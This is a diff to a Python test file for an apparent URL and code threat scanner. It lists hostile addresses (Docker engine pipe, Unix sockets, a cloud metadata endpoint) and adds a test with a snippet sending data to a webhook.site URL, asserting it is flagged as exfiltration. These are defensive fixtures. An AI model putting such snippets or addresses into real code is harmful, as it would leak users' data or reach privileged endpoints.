@@ -248,7 +248,6 @@ def test_a_chat_may_be_told_what_the_task_made(address: str, before: str, text: 
         ("npipe:////./pipe/docker_engine", "network-container"),
         ("unix:///run/x.sock", "network-scheme"),
         ("http+unix://%2Frun%2Fx.sock/y", "network-scheme"),
-        (f"https://webhook.site/1a2b?d={HOLE}", "network-send-drop"),
         ("http://[::ffff:169.254.169.254]/", "network-metadata"),
     ],
 )
@@ -257,3 +256,11 @@ def test_what_answers_there_is_bad(address: str, rule: str) -> None:
     report = scan(address, "url")
     assert report.level >= ThreatLevel.HIGH
     assert rule in {finding.rule for finding in report.findings if finding.level >= ThreatLevel.HIGH}
+
+
+def test_the_sign_for_what_cannot_be_told_is_no_part_of_an_address() -> None:
+    """An address that holds it itself would be taken for one that is not known; a laden bin in code is found all the same."""
+    report = scan(f"https://webhook.site/1a2b?d={HOLE}", "url")
+    assert report.problem is not None
+    code = "def f(data):\n    import requests\n    requests.get('https://webhook.site/1a2b?d=' + data)"
+    assert "network-send-drop" in {finding.rule for finding in scan(code).findings}
